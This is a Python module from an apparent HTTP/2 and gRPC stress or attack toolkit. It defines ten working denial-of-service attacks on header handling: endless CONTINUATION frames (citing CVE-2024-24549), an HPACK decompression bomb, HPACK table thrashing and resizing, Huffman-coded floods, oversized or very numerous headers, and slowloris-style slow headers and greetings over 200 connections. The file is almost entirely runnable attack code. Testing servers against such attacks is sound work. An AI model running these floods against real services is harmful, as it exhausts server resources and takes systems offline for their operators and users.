"""Attacks with header blocks: endless, tiny on the wire and huge when read, or dear to read."""

from __future__ import annotations

import itertools
import random
from typing import TYPE_CHECKING, Final

from hpack import Encoder

from . import frames as h2
from .catalog import attack
from .driver import Burst

if TYPE_CHECKING:
    from collections.abc import Iterator

    from .driver import Driver

_FRAME: Final = 16_000
_BURST: Final = 64 << 10
_OPENED: Final = 2000
_SEED: Final = 5


def _endless(piece: bytes) -> Iterator[Burst | float]:
    """A header block that is continued by the same frame for ever."""
    count = _BURST // len(piece) or 1
    burst = Burst(piece * count, count)
    yield Burst(h2.GREETING)
    yield Burst(h2.frame(h2.HEADERS, 0, 1, h2.request("HealthCheck")))
    yield from itertools.repeat(burst)


def _blocks(*blocks: bytes, first: bytes = b"") -> Iterator[Burst | float]:
    """Calls that have these header blocks in turn; `first` is the block of the very first."""
    yield Burst(h2.GREETING)
    turn = itertools.cycle(blocks)
    for stream in range(1, 2 * _OPENED, 2):
        head = first if first and stream == 1 else next(turn)
        yield Burst(_header_frames(stream, head))


def _header_frames(stream: int, head: bytes) -> bytes:
    pieces = [head[start : start + _FRAME] for start in range(0, len(head), _FRAME)] or [b""]
    kinds = [h2.HEADERS] + [h2.CONTINUATION] * (len(pieces) - 1)
    flags = [h2.END_STREAM if kind == h2.HEADERS else 0 for kind in kinds]
    flags[-1] |= h2.END_HEADERS
    return b"".join(
        h2.frame(kind, flag, stream, piece) for kind, flag, piece in zip(kinds, flags, pieces, strict=True)
    )


@attack("grpc", pace="flood")
def continuation_flood(driver: Driver) -> None:
    """Continues a header block for ever, a field of 1 KB in each frame (CVE-2024-24549 and others)."""
    piece = h2.frame(h2.CONTINUATION, 0, 1, h2.field(b"x-more", b"a" * 1000))
    driver.play(lambda: _endless(piece), 2)


@attack("grpc", pace="flood")
def empty_continuations(driver: Driver) -> None:
    """Continues a header block for ever with frames that are empty."""
    driver.play(lambda: _endless(h2.frame(h2.CONTINUATION, 0, 1)), 2)


@attack("grpc", pace="flood")
def hpack_bomb(driver: Driver) -> None:
    """Refers 16,000 times in one block to a field of 4,000 bytes in HPACK's table: 64 MB from 16 KB."""
    enter = h2.request("HealthCheck") + h2.field(b"x", b"b" * 3900, indexed=True)
    refer = h2.request("HealthCheck") + b"\xbe" * (_FRAME - 200)
    driver.play(lambda: _blocks(refer, first=enter), 2, hang_up=True)


@attack("grpc", pace="flood")
def hpack_table_thrash(driver: Driver) -> None:
    """Resizes HPACK's table and fills it anew in each block."""
    fields = b"".join(h2.field(b"x-%d" % n, b"v", indexed=True) for n in range(400))
    resizes = h2.integer(0, 5, 0x20) + h2.integer(4096, 5, 0x20)
    driver.play(lambda: _blocks(resizes + h2.request("HealthCheck") + fields), 2, hang_up=True)


@attack("grpc", pace="flood")
def hpack_resizes(driver: Driver) -> None:
    """Puts thousands of resizes of HPACK's table into each block."""
    resizes = (h2.integer(0, 5, 0x20) + h2.integer(4096, 5, 0x20)) * 3000
    driver.play(lambda: _blocks(resizes + h2.request("HealthCheck")), 2, hang_up=True)


@attack("grpc", pace="flood")
def huffman_flood(driver: Driver) -> None:
    """Sends long values in HPACK's Huffman code, which is dear to read, never the same twice."""
    source = random.Random(_SEED)
    values = ["".join(source.choices("aceiost012", k=24_000)) for _ in range(16)]
    blocks = [
        h2.request("HealthCheck") + Encoder().encode([("x", value, True)], huffman=True) for value in values
    ]
    driver.play(lambda: _blocks(*blocks), 2, hang_up=True)


@attack("grpc", pace="flood")
def huge_headers(driver: Driver) -> None:
    """Calls with 1 MB of header fields each."""
    head = h2.request("HealthCheck", *((b"x-%d" % n, b"v" * 4000) for n in range(256)))
    driver.play(lambda: _blocks(head), 2, hang_up=True)


@attack("grpc", pace="flood")
def many_headers(driver: Driver) -> None:
    """Calls with thousands of header fields of a few bytes, all within the allowed size on the wire."""
    blocks = [
        h2.request("HealthCheck", *((b"x%d" % (n * 7 + start), b"") for n in range(1800)))
        for start in range(7)
    ]
    driver.play(lambda: _blocks(*blocks), 2, hang_up=True)


@attack("grpc", pace="slow")
def slow_headers(driver: Driver) -> None:
    """Begins a header block on each of 200 connections and continues it by a byte at a time."""
    head = h2.request("HealthCheck")

    def script() -> Iterator[Burst | float]:
        yield Burst(h2.GREETING)
        yield Burst(h2.frame(h2.HEADERS, 0, 1, head[:1]))
        for octet in head[1:]:
            yield 0.2
            yield Burst(h2.frame(h2.CONTINUATION, 0, 1, bytes((octet,))))

    driver.play(script, 200)


@attack("grpc", pace="slow")
def slow_greeting(driver: Driver) -> None:
    """Sends HTTP/2's greeting by a byte at a time on 200 connections."""

    def script() -> Iterator[Burst | float]:
        for octet in h2.GREETING:
            yield Burst(bytes((octet,)))
            yield 0.2

    driver.play(script, 200)
